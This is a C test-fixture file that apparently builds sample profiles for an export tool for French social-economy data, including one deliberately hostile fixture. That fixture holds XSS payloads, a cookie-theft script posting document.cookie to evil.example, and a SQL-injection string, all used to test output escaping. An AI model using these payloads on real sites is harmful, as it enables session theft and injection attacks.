/* export-fixtures.c: fiches the export tests render, and the headings they show
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include "export-fixtures.h"
#include "rtes-export.h"
#include "rtes-fiche-json.h"

const char * const export_fixtures_headings[] = {
  "Panorama de l’ESS sur le territoire",
  "Budget consacré à l’ESS",
  "Programme d’intervention dans le champ de l’ESS",
  "Exemples d’actions soutenues par la collectivité",
  "Contact public",
  NULL
};

char *
export_fixtures_library (void)
{
  return g_build_filename (EXPORT_TESTS_DIR, "library", NULL);
}

GPtrArray *
export_fixtures_load (void)
{
  g_autofree char *path = export_fixtures_library ();
  g_autoptr(GDir) dir = g_dir_open (path, 0, NULL);
  GPtrArray *fiches = g_ptr_array_new_with_free_func (g_object_unref);
  const char *name;

  g_assert_nonnull (dir);
  while ((name = g_dir_read_name (dir)) != NULL)
    {
      g_autofree char *file_path = g_build_filename (path, name, NULL);
      g_autoptr(GFile) file = g_file_new_for_path (file_path);
      g_autoptr(GError) error = NULL;
      RtesFiche *fiche;

      if (!g_str_has_suffix (name, ".json"))
        continue;
      fiche = rtes_fiche_load (file, &error);
      g_assert_no_error (error);
      g_ptr_array_add (fiches, fiche);
    }

  rtes_export_sort (fiches);
  return fiches;
}

RtesFiche *
export_fixtures_hostile (void)
{
  RtesFiche *fiche = rtes_fiche_new ("hostile", "<script>alert('nom')</script> Évry & \"Cie\" \xff\xfe");
  const char *lines[] = { "<img src=x onerror=alert(1)>", "1 rue \x01\x1b[31m", NULL };
  g_autoptr(RtesContact) contact = rtes_contact_new ();
  g_autoptr(RtesContact) contact2 = rtes_contact_new ();
  g_autoptr(RtesBudgetLine) line = rtes_budget_line_new ();

  rtes_fiche_set_status (fiche, RTES_STATUS_DRAFT);
  rtes_fiche_set_kind (fiche, "<b>metropole</b>");
  rtes_fiche_set_region (fiche, "Région\" onmouseover=\"alert(1)");
  rtes_fiche_set_population (fiche, 1234567);
  rtes_fiche_set_updated (fiche, "2026-13-45<script>");
  rtes_fiche_set_address_lines (fiche, lines);
  rtes_fiche_set_postcode (fiche, "75000</dd><script>");
  rtes_fiche_set_city (fiche, "Paris");
  rtes_fiche_set_panorama (fiche,
                           "<script>document.location='https://evil.example/'+document.cookie</script>\n\n"
                           "[clique ici](javascript:alert(document.domain)) et "
                           "[data](data:text/html;base64,PHNjcmlwdD4=) et "
                           "[ok](https://www.rtes.fr/?a=1&b=\"2\")\n"
                           "- <a href=\"javascript:x\" onclick=\"y()\">lien</a>\n"
                           "- https://exemple.fr/\"onmouseover=\"alert(1)\n"
                           "octets cassés : \xc3\x28 \xa0\xa1 fin");
  rtes_fiche_set_programme (fiche, "<style>body{display:none}</style>]]><!-- -->");
  rtes_fiche_set_actions (fiche, "<iframe src=\"https://evil.example\"></iframe>");

  rtes_contact_set_role (contact, "<svg onload=alert(1)>");
  rtes_contact_set_name (contact, "Jean \"Bobby\" Tables'); DROP TABLE--");
  rtes_contact_set_email (contact, "x@y.fr\" onclick=\"alert(1)");
  rtes_contact_set_rtes_board (contact, TRUE);
  rtes_contact_set_role (contact2, "Contact");
  rtes_contact_set_email (contact2, "javascript:alert(1)//@x.fr");
  g_list_store_append (rtes_fiche_get_contacts (fiche), contact);
  g_list_store_append (rtes_fiche_get_contacts (fiche), contact2);

  rtes_budget_line_set_amount (line, 1500.0);
  rtes_budget_line_set_label (line, "<script>alert('budget')</script>");
  rtes_budget_line_set_section (line, "<i>autre</i>");
  rtes_budget_line_set_year (line, RTES_BUDGET_NO_YEAR);
  g_list_store_append (rtes_fiche_get_budget_lines (fiche), line);

  return fiche;
}

RtesFiche *
export_fixtures_long (guint n_paragraphs,
                      guint n_lines)
{
  RtesFiche *fiche = rtes_fiche_new ("metropole-de-test", "Métropole de Test-sur-Loire");
  g_autoptr(GString) text = g_string_new (NULL);
  guint i;

  rtes_fiche_set_status (fiche, RTES_STATUS_PUBLISHED);
  rtes_fiche_set_kind (fiche, "metropole");
  rtes_fiche_set_region (fiche, "Centre-Val de Loire");
  rtes_fiche_set_updated (fiche, "2026-11-20");

  for (i = 0; i < n_paragraphs; i++)
    {
      g_string_append_printf (text,
                              "Paragraphe %u : la métropole soutient les coopératives, les "
                              "associations employeuses et les structures d'insertion par "
                              "l'activité économique, en lien avec les communes, la région et "
                              "les réseaux de l'ESS ; elle mobilise la commande publique et "
                              "accompagne l'émergence de tiers-lieux dans les quartiers.\n\n", i + 1);
      if (i % 4 == 3)
        g_string_append (text, "- premier point de la liste\n  - détail imbriqué\n- second point\n\n");
    }
  rtes_fiche_set_programme (fiche, text->str);

  for (i = 0; i < n_lines; i++)
    {
      g_autoptr(RtesBudgetLine) line = rtes_budget_line_new ();
      g_autofree char *label = g_strdup_printf ("Ligne budgétaire numéro %u", i + 1);

      rtes_budget_line_set_amount (line, 10000.0 * (i + 1));
      rtes_budget_line_set_section (line, i % 2 ? RTES_SECTION_INVESTISSEMENT : RTES_SECTION_FONCTIONNEMENT);
      rtes_budget_line_set_year (line, 2026);
      rtes_budget_line_set_label (line, label);
      g_list_store_append (rtes_fiche_get_budget_lines (fiche), line);
    }
  return fiche;
}
